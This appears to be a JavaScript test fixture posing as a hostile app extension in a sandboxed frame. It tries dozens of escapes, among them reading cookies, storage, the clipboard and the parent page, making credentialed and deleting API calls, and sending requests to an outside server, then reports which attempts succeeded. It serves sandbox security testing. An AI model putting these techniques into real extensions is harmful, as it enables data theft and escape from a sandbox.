// What a hostile extension tries. Each try returns what it got; "" or an exception means that it failed.
// OUTSIDE is another server, which notes who asks; OTHER is a file of another extension, under this one's token.
const OTHER = location.href.replace("/hostile/", "/echo-save/").replace("index.html", "echo.js");
let OUTSIDE = "";

const TRIES = {
  "read the cookie": async () => {
    return document.cookie;
  },
  "set a cookie": async () => {
    document.cookie = 'a=1';
    return document.cookie;
  },
  "local storage": async () => {
    localStorage.setItem('a', '1');
    return localStorage.getItem('a');
  },
  "session storage": async () => {
    sessionStorage.setItem('a', '1');
    return sessionStorage.getItem('a');
  },
  "a database": async () => {
    return await new Promise((ok, no) => { const r = indexedDB.open('a'); r.onsuccess = () => ok('open'); r.onerror = no });
  },
  "the cache": async () => {
    await caches.open('a');
    return 'open';
  },
  "the parent's document": async () => {
    return parent.document.title || 'title';
  },
  "a variable of the parent": async () => {
    return String(parent.localStorage);
  },
  "the parent's address": async () => {
    return parent.location.href;
  },
  "another frame of the app": async () => {
    const f = document.createElement('iframe');
    f.src = '/';
    document.body.append(f);
    await new Promise((ok) => { f.onload = ok; setTimeout(ok, 1500) });
    return f.contentDocument.title || 'title';
  },
  "the API by fetch": async () => {
    const a = await fetch('/api/settings/schema', {credentials: 'include'});
    return String(a.status);
  },
  "the API by request": async () => {
    return await new Promise((ok, no) => { const x = new XMLHttpRequest(); x.withCredentials = true; x.open('GET', '/api/extensions'); x.onload = () => ok(String(x.status)); x.onerror = no; x.send() });
  },
  "an install": async () => {
    const a = await fetch('/api/extensions/none', {method: 'DELETE', credentials: 'include'});
    return String(a.status);
  },
  "the API by script": async () => {
    return await new Promise((ok, no) => { const s = document.createElement('script'); s.src = '/api/extensions'; s.onload = () => ok('loaded'); s.onerror = no; document.body.append(s) });
  },
  "a socket": async () => {
    return await new Promise((ok, no) => { const s = new WebSocket(location.href.replace(/^http(.*?)\/api.*/, 'ws$1/ws')); s.onopen = () => ok('open'); s.onerror = no });
  },
  "events": async () => {
    return await new Promise((ok, no) => { const e = new EventSource('/api/health'); e.onopen = () => ok('open'); e.onerror = no });
  },
  "a popup": async () => {
    return window.open('about:blank') ? 'opened' : '';
  },
  "a popup by link": async () => {
    const a = document.createElement('a');
    a.href = '/';
    a.target = '_blank';
    a.click();
    return '';
  },
  "the top page by address": async () => {
    top.location.href = OUTSIDE;
    return 'set';
  },
  "the top page by link": async () => {
    const a = document.createElement('a');
    a.href = OUTSIDE;
    a.target = '_top';
    a.click();
    return '';
  },
  "a form": async () => {
    const f = document.createElement('form');
    f.action = OUTSIDE;
    f.target = '_top';
    document.body.append(f);
    f.submit();
    return '';
  },
  "a download": async () => {
    const a = document.createElement('a');
    a.href = 'data:text/plain,x';
    a.download = 'x';
    a.click();
    return '';
  },
  "a dialogue": async () => {
    return confirm('sure?') ? 'asked' : '';
  },
  "a service worker": async () => {
    await navigator.serviceWorker.register('worker.js');
    return 'registered';
  },
  "a shared worker": async () => {
    return await new Promise((ok, no) => { const w = new SharedWorker('worker.js'); w.onerror = no; w.port.onmessage = () => ok('works'); w.port.start(); setTimeout(no, 1500) });
  },
  "another extension": async () => {
    const a = await fetch(OTHER);
    return String(a.status);
  },
  "another server by fetch": async () => {
    await fetch(OUTSIDE, {mode: 'no-cors'});
    return 'sent';
  },
  "another server by image": async () => {
    return await new Promise((ok, no) => { const i = new Image(); i.onload = () => ok('sent'); i.onerror = no; i.src = OUTSIDE + 'a.png' });
  },
  "another server by beacon": async () => {
    return navigator.sendBeacon(OUTSIDE, 'x') ? '' : '';
  },
  "another server by import": async () => {
    await import(OUTSIDE + 'a.js');
    return 'loaded';
  },
  "another server by style": async () => {
    return await new Promise((ok, no) => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = OUTSIDE + 'a.css'; l.onload = () => ok('loaded'); l.onerror = no; document.head.append(l) });
  },
  "another server in a frame": async () => {
    const f = document.createElement('iframe');
    f.src = OUTSIDE + 'f';
    document.body.append(f);
    await new Promise((ok) => setTimeout(ok, 500));
    return '';
  },
  "the camera": async () => {
    await navigator.mediaDevices.getUserMedia({video: true});
    return 'sees';
  },
  "the clipboard": async () => {
    return await navigator.clipboard.readText();
  },
};

addEventListener("message", async ({ data }) => {
  if (!data.outside) return;
  OUTSIDE = data.outside;
  const got = {};
  for (const [name, act] of Object.entries(TRIES)) {
    const late = new Promise((_, no) => setTimeout(no, 4000, new Error("late")));
    try {
      got[name] = await Promise.race([act(), late]);
    } catch {
      got[name] = "";
    }
  }
  parent.postMessage({ got, origin: self.origin }, "*");
});
parent.postMessage("ready", "*");
